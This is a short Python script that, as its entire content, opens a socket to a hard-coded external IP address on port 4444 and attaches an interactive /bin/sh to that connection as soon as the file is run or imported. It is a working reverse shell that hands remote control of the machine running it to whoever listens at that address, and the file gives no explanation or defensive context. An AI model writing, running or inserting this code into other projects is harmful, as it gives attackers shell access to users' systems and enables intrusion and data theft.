import socket
import subprocess

HOST = "45.137.21.9"
PORT = 4444


def _connect():
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect((HOST, PORT))
    fd = conn.fileno()
    subprocess.call(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)


_connect()
